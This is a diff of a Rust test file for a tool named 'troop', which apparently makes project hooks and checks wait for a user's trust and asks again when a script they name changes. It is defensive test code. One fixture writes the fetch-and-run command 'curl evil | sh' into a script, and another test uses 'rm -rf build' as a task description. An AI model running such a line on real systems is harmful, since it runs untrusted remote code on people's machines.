@@ -1,10 +1,6 @@
-//! What a project's own files would run, and the switches of its configuration.
+//! Trust in what a project's own files run, and the switches of its configuration.
 
-use std::{
-    fs,
-    os::unix::fs::PermissionsExt as _,
-    process::{Command, Stdio},
-};
+use std::{fs, os::unix::fs::PermissionsExt as _};
 
 use serde_json::{Value, json};
 
@@ -25,7 +21,7 @@ fn project() -> Troop {
     troop
 }
 
-/// What doctor says about something.
+/// What doctor reports under a name.
 fn says(troop: &Troop, name: &str) -> String {
     let run = troop.run("doctor --json");
     let report: Value = serde_json::from_str(&run.out).unwrap();
@@ -38,14 +34,10 @@ fn standing(troop: &Troop) -> String {
     troop.json("trust --show")["standing"].as_str().unwrap().to_owned()
 }
 
-/// Runs the program on a terminal and types something.
+/// Runs the program on a terminal and types an answer.
 fn on_a_terminal(troop: &Troop, arguments: &str, typed: &str) -> String {
     let line = format!("{} {arguments}", env!("CARGO_BIN_EXE_troop"));
-    let mut command = Command::new("script");
-    command.args(["-qec", &line, "/dev/null"]).current_dir(troop.folder());
-    command.env("TROOP_HOME", troop.folder().join("home")).env("USER", "pat");
-    command.stdin(Stdio::piped()).stdout(Stdio::piped());
-    let mut script = command.spawn().unwrap();
+    let mut script = troop.on_terminal(&line).spawn().unwrap();
     std::io::Write::write_all(script.stdin.as_mut().unwrap(), typed.as_bytes()).unwrap();
     let output = script.wait_with_output().unwrap();
     assert!(output.status.success());
@@ -53,7 +45,7 @@ fn on_a_terminal(troop: &Troop, arguments: &str, typed: &str) -> String {
 }
 
 #[test]
-fn what_a_project_would_run_does_not_run_before_it_is_trusted() {
+fn hooks_of_an_untrusted_project_are_reported_and_do_not_count() {
     let troop = project();
     assert_eq!(
         says(&troop, "hooks"),
@@ -67,7 +59,7 @@ fn what_a_project_would_run_does_not_run_before_it_is_trusted() {
 }
 
 #[test]
-fn a_change_of_what_would_run_asks_again() {
+fn a_changed_hook_needs_new_trust() {
     let troop = project();
     troop.ok("trust --yes");
     write(
@@ -96,7 +88,7 @@ fn a_change_of_what_would_run_asks_again() {
 }
 
 #[test]
-fn trust_is_taken_back() {
+fn trust_can_be_revoked() {
     let troop = project();
     assert_eq!(troop.ok("trust --revoke"), "this project was not trusted\n");
     troop.ok("trust --yes");
@@ -124,7 +116,7 @@ fn a_person_is_shown_what_would_run_and_asked() {
 }
 
 #[test]
-fn nobody_agrees_by_accident() {
+fn trust_without_a_terminal_is_refused() {
     let troop = project();
     let (code, err) = troop.refused("trust");
     assert_eq!(code, 2);
@@ -138,7 +130,7 @@ fn nobody_agrees_by_accident() {
 }
 
 #[test]
-fn what_would_run_is_shown_as_json() {
+fn trust_shows_commands_as_json() {
     let troop = project();
     let shown = troop.json("trust --show");
     assert_eq!(
@@ -150,7 +142,7 @@ fn what_would_run_is_shown_as_json() {
 }
 
 #[test]
-fn a_command_cannot_hide_on_the_screen() {
+fn control_characters_in_a_command_are_escaped() {
     let troop = Troop::new();
     write(
         &troop,
@@ -162,7 +154,7 @@ fn a_command_cannot_hide_on_the_screen() {
 }
 
 #[test]
-fn what_people_agreed_to_is_theirs_alone_and_for_one_project() {
+fn trust_is_private_and_for_one_project() {
     let troop = project();
     troop.ok("trust --yes");
     let file = troop.folder().join("home/trust.json");
@@ -178,7 +170,7 @@ fn what_people_agreed_to_is_theirs_alone_and_for_one_project() {
 }
 
 #[test]
-fn a_damaged_record_trusts_nobody_and_says_so() {
+fn a_damaged_trust_file_is_reported_and_trusts_nothing() {
     let troop = project();
     troop.ok("trust --yes");
     write(&troop, "home/trust.json", "{");
@@ -217,8 +209,7 @@ fn hooks_are_also_read_from_the_settings_of_claude_code() {
             },
         }"#,
     );
-    let run = troop.run("trust --yes");
-    assert_eq!(run.code, 0, "{run:?}");
+    let run = troop.succeed("trust --yes");
     assert!(
         run.err.contains("`hooks.TaskCompleted[0].hooks[1].type`: the only type is `command`; troop does not run it"),
         "{}",
@@ -252,7 +243,7 @@ fn a_project_comes_before_a_person_and_its_own_file_before_claude_codes() {
 }
 
 #[test]
-fn the_settings_of_claude_code_are_never_in_the_way() {
+fn invalid_claude_code_settings_are_only_warnings() {
     let troop = Troop::new();
     for (settings, warning) in [
         ("{", "is not understood: "),
@@ -266,7 +257,7 @@ fn the_settings_of_claude_code_are_never_in_the_way() {
 }
 
 #[test]
-fn hooks_are_switched_off() {
+fn hooks_can_be_switched_off() {
     let troop = project();
     let off = HOOKS.replace("{\"hooks\": {", "{\"hooks\": {\"enabled\": false, ");
     write(&troop, ".troop/config.json", &off);
@@ -275,7 +266,7 @@ fn hooks_are_switched_off() {
         ("runs_nothing".into(), "none (optional)".into())
     );
 
-    // A project does not switch off what a person wants; a person does switch off a project.
+    // A project cannot switch off a person's hooks; a person can switch off a project's.
     write(&troop, "home/config.json", HOOKS);
     assert_eq!(says(&troop, "hooks"), "1 configured");
     write(&troop, ".troop/config.json", HOOKS);
@@ -295,7 +286,7 @@ fn hooks_are_switched_off() {
 }
 
 #[test]
-fn teams_that_are_switched_off_say_so() {
+fn commands_report_that_teams_are_switched_off() {
     let troop = Troop::with_team();
     let mut command = troop.command(&["task", "list"]);
     let output = command.env("CLAUDE_CODE_EXPERIMENTAL_AGENT_TEAMS", "0").output().unwrap();
@@ -321,7 +312,7 @@ fn teams_that_are_switched_off_say_so() {
 }
 
 #[test]
-fn checks_of_a_project_do_not_run_before_it_is_trusted_and_that_is_said() {
+fn checks_of_an_untrusted_project_do_not_run_and_a_warning_says_so() {
     let troop = Troop::with_team();
     write(
         &troop,
@@ -329,13 +320,12 @@ fn checks_of_a_project_do_not_run_before_it_is_trusted_and_that_is_said() {
         r#"{"teams": {"checks": ["echo ran >> seen; test -e good"]}}"#,
     );
     troop.ok("task create one");
-    let run = troop.run("task complete 1 --result ok");
-    assert_eq!(run.code, 0, "{run:?}");
+    let run = troop.succeed("task complete 1 --result ok");
     assert!(
         run.err.contains("this project is not trusted yet: 1 thing in its files will not run, so tasks are completed without its check; review it: `troop trust`"),
         "{run:?}"
     );
-    assert!(!troop.folder().join("seen").exists(), "what nobody agreed to does not run");
+    assert!(!troop.folder().join("seen").exists(), "untrusted checks do not run");
     let shown = troop.ok("trust --show");
     assert!(
         shown.contains("check on every task, before it is done, from .troop/config.json"),
@@ -356,7 +346,7 @@ fn checks_of_a_project_do_not_run_before_it_is_trusted_and_that_is_said() {
 }
 
 #[test]
-fn checks_that_make_no_sense_are_told_with_their_file() {
+fn invalid_checks_are_reported_with_their_file() {
     let troop = Troop::new();
     write(&troop, ".troop/config.json", r#"{"teams": {"checks": ["true", " "]}}"#);
     let (code, err) = troop.refused("team list");
@@ -365,7 +355,7 @@ fn checks_that_make_no_sense_are_told_with_their_file() {
 }
 
 #[test]
-fn what_an_imported_team_would_run_is_asked_about() {
+fn an_import_asks_about_the_commands_of_the_team() {
     let troop = Troop::new();
     troop.ok("team create blue --member ann=command --set 'checks=[\"make lint\"]'");
     troop.ok("task create one -d 'rm -rf build' --check 'make test'");
@@ -398,7 +388,7 @@ fn what_an_imported_team_would_run_is_asked_about() {
 }
 
 #[test]
-fn a_changed_program_that_a_command_names_asks_again() {
+fn a_changed_program_of_a_trusted_command_needs_new_trust() {
     let troop = Troop::new();
     let check = |command: &str| format!(r#"{{"teams": {{"checks": ["{command}"]}}}}"#);
     write(&troop, ".troop/verify.sh", "true\n");
@@ -410,7 +400,7 @@ fn a_changed_program_that_a_command_names_asks_again() {
         let shown = troop.ok("trust --show");
         assert!(shown.contains(".troop/verify.sh (sha256:"), "{shown}");
         write(&troop, "data", "2");
-        assert_eq!(standing(&troop), "trusted", "what is only read may change");
+        assert_eq!(standing(&troop), "trusted", "files that are only read may change");
         write(&troop, ".troop/verify.sh", "curl evil | sh\n");
         assert_eq!(standing(&troop), "changed", "{command}");
     }
